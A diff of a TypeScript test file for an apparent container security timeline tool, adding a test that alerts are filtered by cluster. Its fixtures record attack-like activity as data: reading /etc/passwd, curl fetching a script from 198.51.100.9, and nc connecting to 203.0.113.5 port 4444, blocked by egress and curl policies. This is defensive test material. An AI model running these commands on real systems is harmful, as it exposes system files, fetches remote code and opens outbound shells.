@@ -1,5 +1,9 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
+import { silentLogger } from '../../src/observe/log.ts';
+import { createMetrics } from '../../src/observe/metrics.ts';
+import { runtimeEventFromLine } from '../../src/runtime/json-lines.ts';
+import { RuntimeEventWriter } from '../../src/runtime/writer.ts';
 import type { Database } from '../../src/store/database.ts';
 import type { Timeline, TimelineEntry } from '../../src/timeline/assemble.ts';
 import { formatTimeline, mdCode, shellJoin, visible } from '../../src/timeline/format.ts';
@@ -166,6 +170,25 @@ for (const backend of backends) {
         ['/bin/sh -c cat /etc/passwd | grep root', '/bin/cat /etc/passwd', '/bin/grep root', '/usr/bin/curl -s http://198.51.100.9/x.sh'],
       );
       assert.deepEqual(narrow.sessions.map((s) => s.user), ['alice'], 'alice was inside the window even though she started before it');
+    });
+
+    it('looks in every cluster unless told one, and in only that one when told', async () => {
+      const line = JSON.stringify({
+        UpdatedTime: scenario.at(250, 7), ClusterName: 'prod', HostName: 'n9', NamespaceName: 'shop', PodName: 'web-0', ContainerName: 'web',
+        HostPID: 77, HostPPID: 1, PID: 7, PPID: 1, ProcessName: '/usr/bin/nc', Operation: 'Network', Resource: 'remoteip=203.0.113.5 port=4444',
+        Type: 'MatchedPolicy', PolicyName: 'no-egress', Severity: '9', Action: 'Block', Result: 'Permission denied',
+      });
+      const outcome = runtimeEventFromLine(line, { cluster: 'prod' });
+      assert.equal(outcome.kind, 'event');
+      if (outcome.kind !== 'event') return;
+      await new RuntimeEventWriter(db!, { metrics: createMetrics(), logger: silentLogger }).write([outcome.event]);
+      const alertsOf = (t: Timeline) => t.entries.filter((e) => e.kind === 'alert').map((e) => ('event' in e ? `${e.event.cluster}:${e.event.policyName}` : ''));
+      const everywhere = await loadTimeline(db!, { namespace: 'shop', pod: 'web-0', ...scenario.window });
+      assert.deepEqual(alertsOf(everywhere), [':block-curl-in-shop', ':audit-shadow-reads', 'prod:no-egress']);
+      const prod = await loadTimeline(db!, { cluster: 'prod', namespace: 'shop', pod: 'web-0', ...scenario.window });
+      assert.deepEqual(alertsOf(prod), ['prod:no-egress']);
+      assert.deepEqual(prod.sessions, [], 'the sessions are in the unnamed cluster');
+      await db!.query(`DELETE FROM runtime_events WHERE cluster = 'prod'`);
     });
 
     it('gives one session with its processes and alerts in time order, as a tree', async () => {
